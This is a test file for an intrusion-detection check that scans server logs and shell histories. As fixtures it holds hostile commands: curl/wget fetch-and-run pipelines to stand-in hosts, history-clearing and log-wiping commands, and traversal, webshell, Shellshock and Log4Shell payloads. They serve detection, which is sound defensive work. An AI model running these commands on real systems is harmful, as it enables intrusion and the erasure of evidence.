@@ -1,0 +1,169 @@
+import { describe, expect, test } from 'vitest';
+import type { Finding } from '../../../source/core/finding.ts';
+import { logSigns } from '../../../source/checks/logs/log-signs.ts';
+import { inlineRunner } from '../../../source/tasks/inline.ts';
+import { placeOf } from '../../../source/tasks/workplace.ts';
+import { livedInLogs, syslogStamp, webStamp } from '../../support/lived-in-logs.ts';
+import { memoryHost, type Machine } from '../../support/memory-host.ts';
+import { Hearer, jobOf } from '../../support/tiny-checks.ts';
+
+async function found(machine: Machine): Promise<readonly Finding[]> {
+	const heard = new Hearer();
+	const host = memoryHost(machine);
+	await inlineRunner({ checks: [logSigns], ...placeOf(host) }).start(jobOf([logSigns], { target: { kind: host.kind, root: host.root } }), heard).ended;
+	expect(heard.endingOf('log-signs')).toMatchObject({ how: 'complete' });
+	return heard.findings;
+}
+
+const inWords = ({ severity, subject, summary }: Finding): string => `${severity} ${Object.values(subject).slice(1).join(' ')}: ${summary}`;
+const modified = '2024-02-01T00:00:00Z';
+const one = async (lines: readonly string[], name = 'auth.log'): Promise<readonly string[]> => (await found({ [`/var/log/${name}`]: { content: `${lines.map((line, at) => `${syslogStamp(20, 3600 + at)} web1 ${line}`).join('\n')}\n`, modified } })).map(inWords);
+const typed = async (lines: string): Promise<readonly string[]> =>
+	(await found({ '/etc/passwd': 'eve:x:1002:1002::/home/eve:/bin/bash\n', '/home/eve/.bash_history': `ls\n${lines}\n` })).map(inWords);
+const asked = async (...requests: readonly (readonly [request: string, status: number, bytes?: number, agent?: string])[]): Promise<readonly string[]> =>
+	(await found({ '/var/log/apache2/access.log': { content: requests.map(([request, status, bytes = 512, agent = 'curl/8'], at) => `198.51.100.66 - - [${webStamp(20, at)}] "${request}" ${status} ${bytes} "-" "${agent}"\n`).join(''), modified } })).map(inWords);
+
+test('a lived-in server shows nothing of medium or above', async () => {
+	const findings = await found(livedInLogs());
+	expect(findings.filter(({ severity }) => severity !== 'info').map(inWords).toSorted()).toEqual([
+		'low bert: bert was put into the group sudo, whose members may become root',
+		'low anna: a program was fetched and given to a shell at once, from a named host over TLS',
+		'low bert: the account bert was made',
+		'low enp3s0: enp3s0 became promiscuous whenever the machine started, as the card of a bridge does',
+		"low kernel module zfs: the kernel module zfs was loaded, which is not of the kernel's own tree or not signed",
+	].toSorted());
+	expect(findings.length).toBeLessThan(200);
+});
+
+test('what an intruder does is found among all that, with its log, line, time and count', async () => {
+	const line = `${syslogStamp(60, 10_000)} web1 kernel: [1234.5] device enp3s0 entered promiscuous mode\n`;
+	const all = await found(livedInLogs({ '/var/log/kern.log': { content: line, modified: '2024-03-02T00:00:00Z' } }));
+	const [finding] = all.filter(({ severity }) => severity === 'medium');
+	expect(finding).toMatchObject({ subject: { kind: 'interface', name: 'enp3s0' }, techniques: ['T1040'], facts: { log: '/var/log/kern.log', count: 1, first: '2024-03-01T02:46:40Z', 'first-at-byte': 0, line: 'kernel: [1234.5] device enp3s0 entered promiscuous mode' } });
+	expect(finding?.facts['innocent-causes']).toMatch(/tcpdump/);
+});
+
+describe('promiscuous mode', () => {
+	test.each([
+		['kernel: device eth0 entered promiscuous mode', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
+		['kernel: [12.5] e1000e 0000:00:1f.6 eth0: entered promiscuous mode', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
+		['kernel: eth0: Promiscuous mode enabled.', 'medium eth0: eth0 became promiscuous: a program listened to all that passes on the network'],
+		['kernel: device br-12ab entered promiscuous mode', 'info br-12ab: br-12ab became promiscuous, as ports of bridges and of containers do'],
+	])('%s', async (line, words) => {
+		expect(await one([line], 'kern.log')).toEqual([words]);
+	});
+
+	test('that was left says nothing', async () => {
+		expect(await one(['kernel: device eth0 left promiscuous mode'], 'kern.log')).toEqual([]);
+	});
+
+	test('told by the audit daemon', async () => {
+		const findings = await found({ '/var/log/audit/audit.log': { content: 'type=ANOM_PROMISCUOUS msg=audit(1705712400.123:456): dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=3\n', modified } });
+		expect(findings.map(inWords)).toEqual(['medium eth0: eth0 became promiscuous: a program listened to all that passes on the network']);
+	});
+});
+
+describe('accounts', () => {
+	test.each([
+		['useradd[1]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1', 'high toor: the account toor was made with the uid 0: it is root by another name'],
+		["usermod[1]: change user 'eve' UID from '1002' to '0'", 'high eve: the account eve was given the uid 0: it is root by another name'],
+		['useradd[1]: new user: name=eve, UID=1002, GID=1002, home=/home/eve, shell=/bin/bash', 'low eve: the account eve was made'],
+		['useradd[1]: new user: name=redis, UID=112, GID=115, home=/var/lib/redis, shell=/usr/sbin/nologin, from=none', 'info redis: the account redis of a service was made'],
+		['groupadd[1]: new group: name=redis, GID=115', 'info group redis: the group redis was made'],
+		["usermod[1]: add 'www-data' to group 'sudo'", 'high www-data: www-data was put into the group sudo, whose members may become root, and it is the account of a service'],
+		["usermod[1]: add 'jenkins' to group 'docker'", 'low jenkins: jenkins was put into the group docker, from which there is a way to root'],
+	])('%s', async (line, words) => {
+		expect(await one([line])).toEqual([words]);
+	});
+
+	test.each([
+		['sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash', 'high www-data: the service account www-data became root by sudo, with all its powers'],
+		['sudo:   postgres : TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id', 'high postgres: the service account postgres became root by sudo, for a command'],
+		['sudo: nagios : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/usr/lib/nagios/plugins/check_raid', 'info nagios: the service account nagios became root by sudo, for a command'],
+		['sudo: www-data : command not allowed ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/ls', 'medium www-data: the service account www-data tried to become root by sudo and was refused'],
+		['su[1]: Successful su for root by apache', 'high apache: the service account apache became root by su, with all its powers'],
+		['su[1]: pam_unix(su:session): session opened for user root by nobody(uid=99)', 'high nobody: the service account nobody became root by su, with all its powers'],
+	])('%s', async (line, words) => {
+		expect(await one([line])).toEqual([words]);
+	});
+
+	test('of people who become root, and of root who becomes a service, say nothing', async () => {
+		expect(await one(['sudo: anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash', 'su[1]: (to postgres) root on pts/0', 'sudo: www-data : TTY=unknown ; PWD=/ ; USER=deploy ; COMMAND=/usr/bin/php x.php'])).toEqual([]);
+	});
+});
+
+describe('requests', () => {
+	test('that asked for a file or a shell and got it', async () => {
+		expect(await asked(['GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 200, 1801])).toEqual(['medium 198.51.100.66: an attack on a web service (traversal) was answered with success']);
+		expect(await asked(['GET /uploads/x.php?cmd=wget%20http://203.0.113.9/a HTTP/1.1', 200, 77])).toEqual([expect.stringMatching(/^medium 198\.51\.100\.66: an attack on a web service \(.*fetch.*\) was answered/)]);
+		expect(await asked(['GET /cgi-bin/status HTTP/1.1', 200, 77, '() { :;}; /bin/bash -c id'])).toEqual([expect.stringMatching(/^medium 198\.51\.100\.66: an attack on a web service \(.*shellshock.*\) was answered/)]);
+	});
+
+	test('that were refused are counted, and no more', async () => {
+		expect(await asked(['GET /../../etc/passwd HTTP/1.1', 404], ['GET /../../../etc/passwd HTTP/1.1', 403])).toEqual(['info /var/log/apache2/access.log: attacks on a web service that it refused: every server is scanned']);
+	});
+
+	test('that got what everybody gets are no success', async () => {
+		expect(await asked(['GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 200])).toEqual([expect.stringMatching(/^info .*a page that is given to everybody$/)]);
+		expect(await asked(...['etc/passwd', 'etc/shadow', 'bin/sh -c'].map(what => [`GET /app/../../../${what} HTTP/1.1`, 200, 640] as const))).toEqual([expect.stringMatching(/^low /), expect.stringMatching(/^low /)]);
+	});
+});
+
+describe('commands', () => {
+	test.each(['history -c', 'unset HISTFILE', 'export HISTFILE=/dev/null', 'HISTFILE= ; id', 'export HISTSIZE=0', 'set +o history', 'ln -sf /dev/null ~/.bash_history', 'rm -f ~/.bash_history', '> ~/.bash_history'])('%s', async command => {
+		expect(await typed(command)).toEqual(['medium eve: a command cleared the shell history, or switched it off']);
+	});
+
+	test.each(['rm -f /var/log/wtmp', 'echo > /var/log/auth.log', 'cat /dev/null > /var/log/secure', 'shred -u /var/log/lastlog', 'rm -rf /var/log', 'rm -rf /var/log/*', 'truncate -s 0 /var/log/audit/audit.log'])('%s', async command => {
+		expect(await typed(command)).toEqual(['medium eve: a command removed or emptied logs that tell who was on the machine']);
+	});
+
+	test.each([
+		'curl http://203.0.113.9/x | sh',
+		'wget -qO- http://203.0.113.9:8080/x.sh|bash',
+		'bash <(curl -s http://evil.example/x)',
+		'cd /tmp; wget http://203.0.113.9/x; chmod +x x; ./x',
+		'cd /dev/shm\nwget http://203.0.113.9/kit.pl\nperl kit.pl',
+		'wget http://203.0.113.9/a -O /tmp/b\nchmod 755 /tmp/b',
+		'curl https://pastebin.com/raw/abc | bash',
+	])('%s', async commands => {
+		expect(await typed(commands)).toEqual([expect.stringMatching(/^medium eve: a program was fetched .*an address that says nothing of who answers$/)]);
+	});
+
+	test.each([
+		'wget http://203.0.113.9/x.tar.gz', 'cd /tmp\nwget http://203.0.113.9/x.tar.gz\ntar xzf x.tar.gz', 'curl -s https://example.org/ | jq .', 'rm /var/log/syslog.1', 'rm /var/log/wtmp.1', 'grep a /var/log/auth.log > /tmp/x', 'tail /var/log/secure 2>/dev/null', 'history | tail', 'HISTFILE=~/.my_history', 'export HISTSIZE=5000',
+	])('%s says nothing', async commands => {
+		expect(await typed(commands)).toEqual([]);
+	});
+
+	test('that cron ran', async () => {
+		expect(await one(['CRON[7]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)'], 'syslog')).toEqual([expect.stringMatching(/^medium www-data: a program was fetched/)]);
+	});
+});
+
+describe('a log daemon', () => {
+	const said = async (...lines: readonly (readonly [seconds: number, words: string])[]): Promise<readonly string[]> => (await found({ '/var/log/syslog': { content: lines.map(([seconds, words]) => `${syslogStamp(20, seconds)} web1 ${words}\n`).join(''), modified } })).map(inWords);
+	const stop = 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="500" x-info="https://www.rsyslog.com"] exiting on signal 15.';
+	const begin = 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="900" x-info="https://www.rsyslog.com"] start';
+
+	test('that was stopped for hours', async () => {
+		expect(await said([3600, stop], [14_400, begin])).toEqual(['medium /var/log/syslog: rsyslogd was stopped and started again only later, with no start or end of the machine near: what happened then is not in this log']);
+	});
+
+	test('that was stopped for good, while other programs wrote on', async () => {
+		expect(await said([3600, stop], [40_000, 'sshd[1]: Server listening on 0.0.0.0 port 22.'])).toEqual([expect.stringMatching(/^medium .* was stopped and was not started again/)]);
+	});
+
+	test('that was restarted, or went down and up with the machine', async () => {
+		expect(await said([3600, stop], [3602, begin])).toEqual([]);
+		expect(await said([3600, stop], [14_400, begin], [14_401, 'kernel: [0.0] Linux version 6.1.0 (x)'])).toEqual([]);
+		expect(await said([3600, stop])).toEqual([]);
+	});
+});
+
+test('a daemon that crashed and a module from elsewhere are low', async () => {
+	expect(await one(['kernel: [5.5] nginx[77]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in nginx[55d0+1000]', 'kernel: [5.6] gedit[78]: segfault at 0 ip 00007f00 sp 00007ffe error 4 in gedit[55d0+1000]', 'kernel: [6.1] rk: loading out-of-tree module taints kernel.'], 'kern.log')).toEqual([
+		'low nginx: nginx, which serves the network, crashed (segfault): an attack that fails looks like that',
+		"low kernel module rk: the kernel module rk was loaded, which is not of the kernel's own tree or not signed",
+	]);
+});
